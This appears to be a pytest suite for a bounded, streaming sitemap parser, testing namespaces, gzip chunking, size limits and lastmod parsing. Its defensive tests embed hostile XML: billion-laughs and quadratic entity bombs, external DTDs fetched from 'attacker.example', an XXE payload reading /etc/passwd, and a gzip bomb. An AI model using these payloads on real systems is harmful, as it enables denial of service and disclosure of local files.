"""Sitemap parsing: streamed, bounded, and refusing whatever could hurt the crawler."""

from __future__ import annotations

import gzip
import tracemalloc
import zlib
from datetime import datetime, timedelta, timezone
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rag_pipeline.core.w3c_datetime import parse_lastmod
from rag_pipeline.core.sitemaps import (
    MAX_LOC_CHARS,
    Entry,
    SitemapError,
    SitemapParser,
    parse_sitemap,
)

PROPERTY_SETTINGS = settings(max_examples=200, deadline=None)
NS = "http://www.sitemaps.org/schemas/sitemap/0.9"
UTC = timezone.utc


def urlset(*urls: str, ns: str | None = NS, extra: str = "") -> bytes:
    xmlns = f' xmlns="{ns}"' if ns else ""
    body = "".join(urls)
    return f'<?xml version="1.0" encoding="UTF-8"?>\n<urlset{xmlns}{extra}>{body}</urlset>'.encode()


def feed_in_chunks(data: bytes, size: int, **kw: Any) -> tuple[SitemapParser, list[Entry]]:
    parser = SitemapParser(**kw)
    entries: list[Entry] = []
    for start in range(0, len(data), size):
        entries += parser.feed(data[start : start + size])
    entries += parser.close()
    return parser, entries


def gzip_stream(parts: list[bytes], repeat: int = 1) -> bytes:
    """Compresses without ever holding the uncompressed data, so a bomb test stays small."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    out = [compressor.compress(parts[0])]
    out += [compressor.compress(parts[1]) for _ in range(repeat)]
    out += [compressor.compress(parts[2]), compressor.flush()]
    return b"".join(out)


SAMPLE_URLS = (
    "<url><loc>https://example.com/a</loc><lastmod>2024-03-01</lastmod></url>",
    "<url><loc>https://example.com/b</loc><lastmod>2024-03-02T10:20:30+02:00</lastmod></url>",
    "<url><loc>https://example.com/c</loc></url>",
)
SAMPLE = urlset(*SAMPLE_URLS)
SAMPLE_ENTRIES = [
    Entry("https://example.com/a", datetime(2024, 3, 1, tzinfo=UTC)),
    Entry("https://example.com/b", datetime(2024, 3, 2, 8, 20, 30, tzinfo=UTC)),
    Entry("https://example.com/c", None),
]


# --------------------------------------------------------------------------- documents


@pytest.mark.parametrize("ns", [NS, None, "http://www.google.com/schemas/sitemap/0.84"])
def test_urlset_is_read_with_or_without_a_namespace(ns: str | None) -> None:
    kind, entries = parse_sitemap(urlset(*SAMPLE_URLS, ns=ns))
    assert kind == "urlset"
    assert entries == SAMPLE_ENTRIES


def test_prefixed_sitemap_namespace_is_read() -> None:
    doc = (
        f'<sm:urlset xmlns:sm="{NS}"><sm:url><sm:loc>https://example.com/a</sm:loc></sm:url>'
        "</sm:urlset>"
    ).encode()
    assert parse_sitemap(doc) == ("urlset", [Entry("https://example.com/a")])


def test_sitemapindex_lists_child_sitemaps() -> None:
    doc = (
        f'<sitemapindex xmlns="{NS}">'
        "<sitemap><loc>https://example.com/s1.xml.gz</loc><lastmod>2024-01-05</lastmod></sitemap>"
        "<sitemap><loc>https://example.com/s2.xml</loc></sitemap>"
        "</sitemapindex>"
    ).encode()
    kind, entries = parse_sitemap(doc)
    assert kind == "sitemapindex"
    assert entries == [
        Entry("https://example.com/s1.xml.gz", datetime(2024, 1, 5, tzinfo=UTC)),
        Entry("https://example.com/s2.xml"),
    ]


def test_urls_in_a_sitemapindex_are_not_taken_as_child_sitemaps() -> None:
    doc = f'<sitemapindex xmlns="{NS}"><url><loc>https://example.com/p</loc></url></sitemapindex>'
    assert parse_sitemap(doc.encode()) == ("sitemapindex", [])


def test_extension_namespaces_are_ignored() -> None:
    # <image:loc> comes first, so a parser matching local names only would take it.
    doc = urlset(
        "<url><image:image><image:loc>https://cdn.example.com/i.png</image:loc></image:image>"
        '<xhtml:link rel="alternate" hreflang="de" href="https://example.com/de/a"/>'
        "<news:news><news:publication_date>2020-01-01</news:publication_date></news:news>"
        "<loc>https://example.com/a</loc></url>"
        "<url><image:image><image:loc>https://cdn.example.com/only-image.png</image:loc>"
        "</image:image></url>",
        # Same local names as the sitemap's own elements, other namespace: not entries.
        '<x:url xmlns:x="urn:other"><x:loc>https://example.com/x1</x:loc></x:url>',
        '<url><x:loc xmlns:x="urn:other">https://example.com/x2</x:loc></url>',
        extra=' xmlns:image="http://www.google.com/schemas/sitemap-image/1.1"'
        ' xmlns:xhtml="http://www.w3.org/1999/xhtml"'
        ' xmlns:news="http://www.google.com/schemas/sitemap-news/0.9"',
    )
    parser = SitemapParser()
    entries = parser.feed(doc) + parser.close()
    assert entries == [Entry("https://example.com/a")]
    assert parser.skipped == 2  # The last two <url>s have no page loc of their own.


def test_loc_text_is_stripped_unescaped_and_cdata_is_read() -> None:
    doc = urlset(
        "<url><loc>\n   https://example.com/a?x=1&amp;y=2  \n</loc></url>",
        "<url><loc><![CDATA[https://example.com/b?q=<>]]></loc></url>",
    )
    assert parse_sitemap(doc)[1] == [
        Entry("https://example.com/a?x=1&y=2"),
        Entry("https://example.com/b?q=<>"),
    ]


def test_empty_and_overlong_locs_are_skipped_and_counted() -> None:
    long_loc = "https://example.com/" + "x" * MAX_LOC_CHARS
    at_limit = "https://example.com/" + "y" * (MAX_LOC_CHARS - len("https://example.com/"))
    doc = urlset(
        "<url><loc>   </loc></url>",
        "<url><lastmod>2024-01-01</lastmod></url>",
        f"<url><loc>{long_loc}</loc></url>",
        f"<url><loc>{at_limit}</loc></url>",
    )
    parser = SitemapParser()
    entries = parser.feed(doc) + parser.close()
    assert entries == [Entry(at_limit)]
    assert parser.skipped == 3


def test_huge_text_node_is_not_accumulated() -> None:
    # 8 MB inside one <loc>: skipped, and the parser never holds it as one string.
    doc = urlset(f"<url><loc>https://example.com/{'x' * 8_000_000}</loc></url>")
    parser = SitemapParser()
    tracemalloc.start()
    try:
        for start in range(0, len(doc), 65_536):
            parser.feed(doc[start : start + 65_536])
        parser.close()
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert parser.skipped == 1
    assert peak < 2_000_000


def test_unparseable_lastmod_keeps_the_entry() -> None:
    doc = urlset("<url><loc>https://example.com/a</loc><lastmod>yesterday</lastmod></url>")
    assert parse_sitemap(doc)[1] == [Entry("https://example.com/a", None)]


def test_first_loc_of_an_entry_wins() -> None:
    doc = urlset("<url><loc>https://example.com/1</loc><loc>https://example.com/2</loc></url>")
    assert parse_sitemap(doc)[1] == [Entry("https://example.com/1")]


def test_bom_and_leading_blank_lines_are_tolerated() -> None:
    assert parse_sitemap(b"\xef\xbb\xbf\n\n  " + SAMPLE)[1] == SAMPLE_ENTRIES


# --------------------------------------------------------------------------- streaming


@pytest.mark.parametrize("gzipped", [None, True])
def test_gzip_in_7_byte_chunks_equals_plain(gzipped: bool | None) -> None:
    _, entries = feed_in_chunks(gzip.compress(SAMPLE), 7, gzipped=gzipped)
    assert entries == parse_sitemap(SAMPLE)[1] == SAMPLE_ENTRIES


def test_plain_in_1_byte_chunks_equals_whole() -> None:
    _, entries = feed_in_chunks(b"\xef\xbb\xbf" + SAMPLE, 1)
    assert entries == SAMPLE_ENTRIES


def test_concatenated_gzip_members_are_read_as_one_stream() -> None:
    half = len(SAMPLE) // 2
    data = gzip.compress(SAMPLE[:half]) + gzip.compress(b"") + gzip.compress(SAMPLE[half:])
    for size in (1, 7, len(data)):
        assert feed_in_chunks(data, size)[1] == SAMPLE_ENTRIES


def test_garbage_after_the_gzip_stream_is_refused() -> None:
    with pytest.raises(SitemapError, match="after the end of the gzip stream"):
        parse_sitemap(gzip.compress(SAMPLE) + b"\x00\x00\x00")


def test_gzipped_true_with_plain_data_is_refused() -> None:
    with pytest.raises(SitemapError, match="not gzip"):
        parse_sitemap(SAMPLE, gzipped=True)


def test_truncated_gzip_raises_on_close() -> None:
    parser = SitemapParser()
    parser.feed(gzip.compress(SAMPLE)[:-10])
    with pytest.raises(SitemapError, match="truncated gzip"):
        parser.close()


def test_feed_returns_entries_as_soon_as_they_are_complete() -> None:
    first_end = SAMPLE.index(b"</url>") + len(b"</url>")
    parser = SitemapParser()
    assert parser.feed(SAMPLE[: first_end - 1]) == []
    assert parser.kind == "urlset"
    assert parser.feed(SAMPLE[first_end - 1 : first_end]) == SAMPLE_ENTRIES[:1]
    assert parser.feed(SAMPLE[first_end:]) == SAMPLE_ENTRIES[1:]
    assert parser.close() == []


def test_urls_past_the_limit_are_counted_not_returned() -> None:
    doc = urlset(*(f"<url><loc>https://example.com/{i}</loc></url>" for i in range(50_001)))
    parser = SitemapParser()
    entries = parser.feed(doc) + parser.close()
    assert len(entries) == 50_000
    assert entries[-1] == Entry("https://example.com/49999")
    assert parser.over_limit == 1


def test_max_urls_is_configurable() -> None:
    parser, entries = feed_in_chunks(SAMPLE, 10, max_urls=2)
    assert entries == SAMPLE_ENTRIES[:2]
    assert parser.over_limit == 1


def test_gzip_bomb_is_stopped_with_bounded_memory() -> None:
    header = f'<?xml version="1.0"?><urlset xmlns="{NS}">'.encode()
    bomb = gzip_stream([header, b" " * (1 << 20), b"</urlset>"], repeat=200)  # 200 MB inflated.
    assert len(bomb) < 1_000_000
    parser = SitemapParser()
    tracemalloc.start()
    try:
        with pytest.raises(SitemapError) as caught:
            for start in range(0, len(bomb), 65_536):
                parser.feed(bomb[start : start + 65_536])
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert str(caught.value) == "larger than 52428800 bytes uncompressed (the protocol's limit)"
    assert peak < 64 * 1024 * 1024


def test_bomb_fed_in_one_chunk_is_also_stopped() -> None:
    bomb = gzip_stream([b"", b"\n" * (1 << 20), b""], repeat=20)
    with pytest.raises(SitemapError, match="larger than 1000000 bytes uncompressed$"):
        parse_sitemap(bomb, max_bytes=1_000_000)


def test_plain_input_is_size_limited_too() -> None:
    with pytest.raises(SitemapError, match="larger than 100 bytes"):
        feed_in_chunks(urlset(*["<url><loc>https://e.com/a</loc></url>"] * 5), 30, max_bytes=100)


def test_a_failed_parser_stays_failed() -> None:
    parser = SitemapParser()
    with pytest.raises(SitemapError):
        parser.feed(b"<html>")
    with pytest.raises(SitemapError, match="already failed: not a sitemap"):
        parser.feed(SAMPLE)
    with pytest.raises(SitemapError, match="already failed"):
        parser.close()


# --------------------------------------------------------------------------- hostile XML


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE urlset [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<urlset><url><loc>https://example.com/&lol9;</loc></url></urlset>"""


@pytest.mark.parametrize(
    "doc",
    [
        BILLION_LAUGHS,
        b'<!DOCTYPE urlset [<!ENTITY a "' + b"x" * 10_000 + b'">]>'
        b"<urlset><url><loc>&a;&a;&a;</loc></url></urlset>",
        b'<!DOCTYPE urlset SYSTEM "http://attacker.example/evil.dtd"><urlset/>',
        b'<!DOCTYPE urlset [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><urlset/>',
        b"<!DOCTYPE urlset><urlset/>",
    ],
    ids=["billion-laughs", "quadratic-blowup", "external-dtd", "parameter-entity", "bare-doctype"],
)
def test_any_dtd_is_refused(doc: bytes) -> None:
    parser = SitemapParser()
    with pytest.raises(SitemapError, match="^DTDs are not allowed in a sitemap$"):
        parser.feed(doc)
        parser.close()


def test_xxe_is_refused_and_the_file_is_never_read() -> None:
    doc = (
        b'<?xml version="1.0"?>\n<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        b"<urlset><url><loc>&xxe;</loc></url></urlset>"
    )
    parser = SitemapParser()
    with pytest.raises(SitemapError, match="DTDs are not allowed") as caught:
        parser.feed(doc)
    assert "root:" not in str(caught.value)
    assert parser.skipped == 0 and parser.over_limit == 0


def test_undeclared_entity_is_an_error() -> None:
    with pytest.raises(SitemapError, match="undefined entity at line 1"):
        parse_sitemap(b"<urlset><url><loc>&xxe;</loc></url></urlset>")


def test_malformed_xml_reports_where() -> None:
    doc = f'<urlset xmlns="{NS}">\n<url>\n  <loc>x</url>\n</urlset>'.encode()
    with pytest.raises(SitemapError, match=r"^not XML: mismatched tag at line 3, column 11$"):
        parse_sitemap(doc)


def test_line_numbers_count_the_dropped_leading_blank_lines() -> None:
    with pytest.raises(SitemapError, match="at line 3,"):
        parse_sitemap(b"\n\n<urlset><url></urlset>")


@pytest.mark.parametrize(
    "page",
    [
        b"<!DOCTYPE html>\n<html><head><title>Not found</title></head><body></body></html>",
        b"<!doctype html>\n<html lang=en><meta charset=utf-8><p>Login</html>",
        b"<html><body><p>Hello<br></body></html>",
        b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>',
    ],
)
def test_html_page_is_named_as_such(page: bytes) -> None:
    with pytest.raises(SitemapError, match=r"^not a sitemap: root element <html>$"):
        parse_sitemap(page)


def test_other_roots_are_not_sitemaps() -> None:
    with pytest.raises(SitemapError, match=r"^not a sitemap: root element <rss>$"):
        parse_sitemap(b'<?xml version="1.0"?><rss version="2.0"><channel/></rss>')


def test_latin1_bytes_are_refused_as_not_utf8() -> None:
    doc = urlset("<url><loc>https://example.com/café</loc></url>").decode().encode("latin-1")
    with pytest.raises(SitemapError, match="UTF-8") as caught:
        feed_in_chunks(doc, 16)
    assert "0xe9" in str(caught.value)


def test_declared_non_utf8_encoding_is_refused() -> None:
    doc = b'<?xml version="1.0" encoding="ISO-8859-1"?><urlset><url><loc>x</loc></url></urlset>'
    with pytest.raises(SitemapError, match="ISO-8859-1.*UTF-8"):
        parse_sitemap(doc)


def test_utf16_is_refused_as_not_utf8() -> None:
    with pytest.raises(SitemapError, match="UTF-8"):
        parse_sitemap(SAMPLE.decode().encode("utf-16"))


def test_multibyte_character_split_across_chunks_is_fine() -> None:
    doc = urlset("<url><loc>https://example.com/ツ</loc></url>")
    assert feed_in_chunks(doc, 1)[1] == [Entry("https://example.com/ツ")]


def test_truncated_document_raises_on_close() -> None:
    cut = SAMPLE.index(b"<url>", 100)
    parser = SitemapParser()
    assert parser.feed(SAMPLE[:cut]) == SAMPLE_ENTRIES[:1]
    with pytest.raises(SitemapError, match="^not XML: .* at line 2, column"):
        parser.close()


@pytest.mark.parametrize("data", [b"", b"  \n\t ", b"\xef\xbb\xbf"])
def test_empty_document_raises(data: bytes) -> None:
    with pytest.raises(SitemapError, match="empty document"):
        parse_sitemap(data)


@given(st.binary(max_size=300), st.integers(min_value=1, max_value=50))
@PROPERTY_SETTINGS
def test_arbitrary_bytes_raise_only_sitemap_error(data: bytes, size: int) -> None:
    try:
        feed_in_chunks(data, size)
    except SitemapError as exc:
        assert "\n" not in str(exc)  # One-line reasons.


@given(st.lists(st.sampled_from(["<url>", "</url>", "<loc>", "</loc>", "x", "&amp;", "<a/>"])))
@PROPERTY_SETTINGS
def test_arbitrary_tag_soup_inside_urlset_raises_only_sitemap_error(parts: list[str]) -> None:
    try:
        parse_sitemap(urlset(*parts))
    except SitemapError:
        pass


# --------------------------------------------------------------------------- plain text


def test_plain_text_sitemap() -> None:
    data = "\ufeffhttps://example.com/a\r\n\r\n  https://example.com/ツ  \nhttps://example.com/c"
    kind, entries = parse_sitemap(data.encode())
    assert kind == "urlset"
    assert entries == [
        Entry("https://example.com/a"),
        Entry("https://example.com/ツ"),
        Entry("https://example.com/c"),
    ]


def test_plain_text_limits_apply() -> None:
    lines = ["https://e.com/" + "x" * 10_000, "https://example.com/1", "https://example.com/2"]
    parser, entries = feed_in_chunks("\n".join(lines).encode(), 1000, max_urls=1)
    assert entries == [Entry("https://example.com/1")]
    assert parser.skipped == 1 and parser.over_limit == 1


def test_gzipped_plain_text_sitemap() -> None:
    data = gzip.compress(b"https://example.com/a\nhttps://example.com/b\n")
    expected = [Entry("https://example.com/a"), Entry("https://example.com/b")]
    assert feed_in_chunks(data, 7)[1] == expected


def test_document_ending_inside_a_character_is_refused() -> None:
    parser = SitemapParser()
    assert parser.feed("https://example.com/a\nhttps://example.com/ツ".encode()[:-1]) == [
        Entry("https://example.com/a")
    ]
    with pytest.raises(SitemapError, match="not UTF-8: the document ends inside a character"):
        parser.close()


def test_plain_text_in_latin1_is_refused() -> None:
    with pytest.raises(SitemapError, match="UTF-8"):
        parse_sitemap("https://example.com/café\n".encode("latin-1"))


# --------------------------------------------------------------------------- lastmod


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2024", datetime(2024, 1, 1, tzinfo=UTC)),
        ("2024-07", datetime(2024, 7, 1, tzinfo=UTC)),
        ("2024-07-16", datetime(2024, 7, 16, tzinfo=UTC)),
        ("2024-07-16T19:20+01:00", datetime(2024, 7, 16, 18, 20, tzinfo=UTC)),
        ("2024-07-16T19:20:30+01:00", datetime(2024, 7, 16, 18, 20, 30, tzinfo=UTC)),
        ("2024-07-16T19:20:30.45+01:00", datetime(2024, 7, 16, 18, 20, 30, 450_000, tzinfo=UTC)),
        ("2024-07-16T19:20:30.123456789Z", datetime(2024, 7, 16, 19, 20, 30, 123_456, tzinfo=UTC)),
        ("2024-07-16T19:20:30Z", datetime(2024, 7, 16, 19, 20, 30, tzinfo=UTC)),
        ("2024-07-16T19:20:30", datetime(2024, 7, 16, 19, 20, 30, tzinfo=UTC)),
        ("2024-07-16T19:20:30-05:30", datetime(2024, 7, 17, 0, 50, 30, tzinfo=UTC)),
        ("2024-07-16T19:20:30+0100", datetime(2024, 7, 16, 18, 20, 30, tzinfo=UTC)),
        ("  2024-07-16\n", datetime(2024, 7, 16, tzinfo=UTC)),
    ],
)
def test_lastmod_w3c_forms(text: str, expected: datetime) -> None:
    value = parse_lastmod(text)
    assert value == expected
    assert value is not None and value.utcoffset() == timedelta(0)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "yesterday",
        "2024-13-01",
        "2024-02-30",
        "2024-07-16T25:00Z",
        "2024-07-16T10:00+24:00",
        "2024-07-16T10:00+01:75",
        "2024-07-16 10:00",
        "0000-01-01",
        "0001-01-01T00:00+01:00",
        "٢٠٢٤-٠١-٠١",
        "2024-07-16T10:00:00Z" + "0" * 100,
    ],
)
def test_bad_lastmod_is_none(text: str) -> None:
    assert parse_lastmod(text) is None


@given(
    st.datetimes(min_value=datetime(2, 1, 1), max_value=datetime(9998, 12, 31)),
    st.integers(min_value=-23 * 60 - 59, max_value=23 * 60 + 59),
)
@PROPERTY_SETTINGS
def test_lastmod_round_trips_full_w3c_form(naive: datetime, offset_minutes: int) -> None:
    moment = naive.replace(tzinfo=timezone(timedelta(minutes=offset_minutes)))
    sign, minutes = ("-" if offset_minutes < 0 else "+"), abs(offset_minutes)
    # Built by hand: strftime does not zero-pad years before 1000 on every platform.
    w3c = (
        f"{naive.year:04d}-{naive.month:02d}-{naive.day:02d}T{naive.hour:02d}:{naive.minute:02d}"
        f":{naive.second:02d}.{naive.microsecond:06d}{sign}{minutes // 60:02d}:{minutes % 60:02d}"
    )
    assert parse_lastmod(w3c) == moment
    assert parse_lastmod(moment.isoformat()) == moment  # Also without a fraction when it is 0.


@given(st.text(max_size=80))
@PROPERTY_SETTINGS
def test_lastmod_never_raises(text: str) -> None:
    value = parse_lastmod(text)
    assert value is None or value.tzinfo == UTC

